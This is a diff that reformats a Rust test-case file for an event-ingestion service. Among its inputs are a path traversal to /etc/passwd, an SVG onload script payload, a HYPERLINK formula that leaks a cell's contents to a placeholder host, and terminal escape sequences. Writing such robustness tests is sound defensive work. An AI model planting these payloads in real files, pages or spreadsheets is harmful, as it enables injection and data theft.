@@ -14,10 +14,18 @@ pub(super) fn cases() -> Vec<Case> {
     };
     let keyed = |id: &str, key: &str| {
         let key = serde_json::to_string(key).unwrap();
-        request(event(id, &format!(r#","event_params":[{{"key":{key},"value":{{"int_value":1}}}}]"#)))
+        request(event(
+            id,
+            &format!(r#","event_params":[{{"key":{key},"value":{{"int_value":1}}}}]"#),
+        ))
     };
     let params: String = (0..10_001).map(|n| format!(r#","p{n}":{n}"#)).collect();
-    let same = |id: &str, title: &str| event(id, &format!(r#","event_id":"same-{id}","page_title":"{title}""#));
+    let same = |id: &str, title: &str| {
+        event(
+            id,
+            &format!(r#","event_id":"same-{id}","page_title":"{title}""#),
+        )
+    };
     let mut cases = vec![
         taken("B37", "no event_id", request(event("B37", ""))),
         taken("B37b", "event_id null", request(event("B37b", r#","event_id":null"#))),
@@ -53,13 +61,25 @@ pub(super) fn cases() -> Vec<Case> {
         .with("/ip", json!("127.0.0.1")),
     ];
     for (id, what, name) in [
-        ("B40b", "a name from right to left, with marks", "\u{202e}שלום\u{2066}"),
+        (
+            "B40b",
+            "a name from right to left, with marks",
+            "\u{202e}שלום\u{2066}",
+        ),
         ("B40c", "a name of emoji and joiners", "👩‍👩‍👧"),
         ("B40d", "a name like a path", "../../etc/passwd"),
         ("B40e", "a name with a zero byte and percents", "a\0%00"),
         ("B40f", "a name like markup", "\"><svg onload=alert(1)>"),
-        ("B40g", "a name like a formula", "=HYPERLINK(\"http://e?\"&A1)"),
-        ("B40h", "a name with escapes of a terminal", "\u{1b}[2J\u{1b}]0;x\u{7}"),
+        (
+            "B40g",
+            "a name like a formula",
+            "=HYPERLINK(\"http://e?\"&A1)",
+        ),
+        (
+            "B40h",
+            "a name with escapes of a terminal",
+            "\u{1b}[2J\u{1b}]0;x\u{7}",
+        ),
     ] {
         cases.push(taken(id, what, named(id, name)).with("/event_name", json!(name)));
     }
@@ -80,7 +100,10 @@ pub(super) fn cases() -> Vec<Case> {
         ("B43e", "[1]", json!({"string_value": "[1]"})),
     ] {
         let request = request(param(id, value));
-        cases.push(taken(id, "a parameter that changes its type", request).with("/event_params/0/value", expected));
+        cases.push(
+            taken(id, "a parameter that changes its type", request)
+                .with("/event_params/0/value", expected),
+        );
     }
     // A wrong clock never costs the event, and never makes a partition of its own.
     for (id, what, time) in [
@@ -93,12 +116,20 @@ pub(super) fn cases() -> Vec<Case> {
         ("B39j", "now", "\"now\""),
         ("B39k", "30 February", "\"2026-02-30\""),
         ("B39l", "a leap second", "\"2026-06-30T23:59:60Z\""),
-        ("B39m", "the last instant of 9999", "\"9999-12-31T23:59:59.999999999Z\""),
+        (
+            "B39m",
+            "the last instant of 9999",
+            "\"9999-12-31T23:59:59.999999999Z\"",
+        ),
         ("B39n", "an object", "{\"a\":[1]}"),
         ("B39o", "1e400", "1e400"),
     ] {
         let request = request(event(id, &format!(r#","timestamp_micros":{time}"#)));
-        cases.push(taken(id, what, request).with("/event_params/0", Value::Null).with("/user_id", json!(id)));
+        cases.push(
+            taken(id, what, request)
+                .with("/event_params/0", Value::Null)
+                .with("/user_id", json!(id)),
+        );
     }
     cases
 }
